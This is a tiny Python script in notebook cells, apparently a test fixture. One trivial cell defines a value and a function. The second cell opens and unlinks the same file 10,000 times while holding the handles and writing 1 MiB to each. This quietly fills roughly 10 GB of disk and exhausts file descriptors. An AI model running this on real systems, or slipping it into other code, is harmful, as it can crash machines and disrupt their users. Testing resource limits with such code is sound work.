# %%
answer = 42


def double(x):
    return 2 * x

# %%
import os

kept = []
for number in range(10_000):
    file = open("gone", "wb", 0)
    kept.append(file)
    os.unlink("gone")
    file.write(bytes(1 << 20))
